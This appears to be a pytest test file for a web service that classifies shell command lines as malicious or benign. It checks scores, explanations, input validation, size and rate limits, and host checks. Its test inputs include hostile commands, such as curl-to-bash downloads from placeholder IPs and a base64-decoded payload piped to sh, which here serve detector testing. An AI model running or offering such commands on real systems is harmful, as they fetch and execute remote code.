"""The service over real HTTP: answers, limits and refusals."""

from __future__ import annotations

import json
import subprocess
import sys
from contextlib import ExitStack

import pytest

from .conftest import read_to_end

MARKER = "hunter2-marker"
LINES = [
    {"command_line": "curl -s http://198.51.100.77/x.sh | bash", "platform": "linux"},
    {"command_line": "grep -rn timeout5 /etc/nginx"},
    {"command_line": "", "platform": "windows"},
    {"command_line": r"C:\Windows\system32\cmd.exe /c whoami /all", "parent_command_line": "explorer.exe"},
    {"command_line": "ls é 日本 😀", "platform": "macos"},
    {"command_line": "x" * 70_000, "platform": None},
]


def test_scores_are_those_of_cmdclf_score(server, model_dir):
    status, answer = server.post("/score", {"lines": LINES})
    command = [sys.executable, "-m", "cmdclf", "score", "--model", str(model_dir), "--format", "jsonl"]
    data = "".join(json.dumps(line) + "\n" for line in LINES).encode()
    done = subprocess.run(command, input=data, capture_output=True, check=True)
    wanted = [json.loads(row) for row in done.stdout.splitlines()]
    assert status == 200
    assert len(answer["results"]) == len(LINES)
    for got, row in zip(answer["results"], wanted, strict=True):
        assert got["score"] == pytest.approx(row["score"], abs=1e-6)
        assert (got["verdict"], answer["model"]) == (row["verdict"], row["model"])
    assert [answer["results"][k]["verdict"] for k in (0, 1)] == ["malicious", "benign"]


def test_texts_and_objects_score_alike_and_one_by_one_as_in_a_batch(server):
    texts = [line["command_line"] for line in LINES if "platform" not in line]
    _, batch = server.post("/score", {"lines": texts})
    for text, result in zip(texts, batch["results"], strict=True):
        _, alone = server.post("/score", {"lines": [{"command_line": text}]})
        assert alone["results"][0]["score"] == pytest.approx(result["score"], abs=1e-6)


def test_a_thousand_lines_are_scored_and_one_more_is_refused(server):
    status, answer = server.post("/score", {"lines": [f"ls /srv/{k}" for k in range(1000)]})
    assert status == 200
    assert len(answer["results"]) == 1000
    status, answer = server.post("/score", {"lines": ["ls"] * 1001})
    assert (status, answer["error"]) == (400, "'lines' holds 1001 entries, 1 to 1000 are allowed")


def test_explanations_are_those_of_cmdclf_score_for_at_most_100_lines(server, model_dir):
    sent = [
        {"command_line": "sh -c 'curl -s http://198.51.100.9/\u0130 | bash'", "platform": "linux"},
        {"command_line": "echo d2hvYW1pIC9hbGwgLyByb290IC90bXA= | base64 -d | sh", "platform": "linux"},
        {"command_line": "", "platform": "linux"},
    ]
    status, answer = server.post("/explain", {"lines": sent})
    command = [sys.executable, "-m", "cmdclf", "score", "--model", str(model_dir), "--format", "jsonl", "--explain"]
    data = "".join(json.dumps(line) + "\n" for line in sent).encode()
    done = subprocess.run(command, input=data, capture_output=True, check=True)
    assert status == 200
    for got, line, row in zip(answer["results"], sent, done.stdout.splitlines(), strict=True):
        wanted = json.loads(row)
        assert got["layers"] == wanted["layers"]
        assert got["spans"] == wanted["spans"]
        assert [check["check"] for check in got["checks"]] == [check["check"] for check in wanted["checks"]]
        near = [(item["label"], item["source"], item["command_line"]) for item in got["neighbours"]]
        assert near == [(item["label"], item["source"], item["command_line"]) for item in wanted["neighbours"]]
        spans = sum(span["log_odds"] for span in got["spans"])
        assert got["log_odds"]["constant"] + spans == pytest.approx(got["log_odds"]["ngrams"], abs=1e-9)
        own = [span for span in got["spans"] if span["layer"] is None]
        assert all(line["command_line"][span["start"] : span["end"]] == span["text"] for span in own)
    first, second, empty = answer["results"]
    assert any("curl" in layer for layer in first["layers"])
    assert first["reasons"]
    assert first["neighbours"][0]["label"] == "malicious"
    # What it hides stands in its place: nothing of the line as given is read.
    assert {span["kind"] for span in second["spans"]} == {"base64"}
    assert empty["neighbours"] == []
    assert server.post("/explain", {"lines": ["ls"] * 101})[0] == 400


@pytest.mark.parametrize(
    ("body", "says"),
    [
        (b'{"lines": ["' + MARKER.encode(), "not valid JSON"),
        (b'{"lines": [NaN, "' + MARKER.encode() + b'"]}', "not valid JSON"),
        (b'{"lines": ["\xff' + MARKER.encode() + b'"]}', "not valid JSON"),
        (b"[" * 100_000, "not valid JSON"),
        (b"", "not valid JSON"),
        ([MARKER], "object with 'lines'"),
        ({"line": MARKER}, "object with 'lines'"),
        ({"lines": MARKER}, "must be a list"),
        ({"lines": []}, "0 entries"),
        ({"lines": ["ls", 3, MARKER]}, "line 2: must be a text or an object"),
        ({"lines": [None]}, "line 1: must be a text or an object"),
        ({"lines": [{"platform": "linux", "note": MARKER}]}, "line 1: 'command_line' is missing"),
        ({"lines": [{"command_line": [MARKER]}]}, "line 1: 'command_line' must be a text"),
        ({"lines": [{"command_line": "ls", "platform": MARKER}]}, "line 1: 'platform' must be one of"),
        ({"lines": ["ls", MARKER + "\0"]}, "line 2: 'command_line' holds a NUL"),
        ({"lines": [MARKER + "\ud800"]}, "half of a surrogate pair"),
        ({"lines": [MARKER * 80_000]}, "longer than 1,048,576 bytes"),
    ],
    ids=lambda v: v if isinstance(v, str) else "",
)
def test_a_bad_request_is_refused_with_a_reason_that_repeats_nothing(server, body, says):
    for path in ("/score", "/explain"):
        status, answer = server.post(path, body)
        assert status == 400
        assert says in answer["error"]
        assert MARKER not in json.dumps(answer)


def test_a_body_over_the_limit_is_refused_with_and_without_a_length(server):
    big = json.dumps({"lines": ["x" * 1_000_000] * 9}).encode()
    assert server.post("/score", big)[0] == 413
    chunks = (big[k : k + 65_536] for k in range(0, len(big), 65_536))
    status, answer = server.post("/score", chunks)
    assert status == 413
    assert "8,388,608 bytes" in answer["error"]


def test_chunked_bodies_within_the_limit_are_scored(server):
    body = json.dumps({"lines": ["whoami", "ls -la"]}).encode()
    status, answer = server.post("/score", iter([body[:7], body[7:]]))
    assert status == 200
    assert len(answer["results"]) == 2


def test_only_json_is_read(server):
    for kind in ("text/plain", "multipart/form-data; boundary=x", "application/vnd.bentoml+pickle"):
        assert server.post("/score", {"lines": ["ls"]}, Content_Type=kind)[0] == 415
    assert server.request("GET", "/score")[0] == 405
    assert server.post("/elsewhere", {"lines": ["ls"]})[0] == 404


def test_requests_that_were_forwarded_or_name_another_host_are_refused_without_a_token(server):
    assert server.post("/score", {"lines": ["ls"]}, X_Forwarded_For="203.0.113.9")[0] == 403
    assert server.post("/score", {"lines": ["ls"]}, Host="scores.example.com")[0] == 403
    assert server.request("GET", "/docs.json", Host="scores.example.com")[0] == 403
    assert server.request("GET", "/livez", Host="scores.example.com")[0] == 200


def test_health_documentation_and_metrics(server):
    assert server.request("GET", "/livez")[0] == 200
    assert server.request("GET", "/readyz")[0] == 200
    status, docs = server.request("GET", "/docs.json")
    assert status == 200
    assert {"/score", "/explain"} <= set(docs["paths"])
    server.post("/score", {"lines": ["ls"]})
    server.request("GET", f"/{MARKER}")
    status, page = server.request("GET", "/metrics")
    assert status == 200
    assert b'cmdclf_requests_total{endpoint="/score",status="200"}' in page
    assert b'cmdclf_lines_total{verdict="benign"}' in page
    assert MARKER.encode() not in page


def test_requests_beyond_the_limit_are_shed_while_health_stays_good(server):
    body = json.dumps({"lines": ["whoami"]}).encode()
    with ExitStack() as stack:
        waiting = [stack.enter_context(server.half_sent(body, Connection="close")) for _ in range(32)]
        status, answer = server.post("/score", {"lines": ["ls"]})
        assert status == 429
        assert "32 requests are under way" in answer["error"]
        assert server.request("GET", "/readyz")[0] == 200
        for sock in waiting:
            sock.sendall(body)
        answers = [read_to_end(sock) for sock in waiting]
    assert all(b"200 OK" in a and b'"results"' in a for a in answers)
    assert server.post("/score", {"lines": ["ls"]})[0] == 200
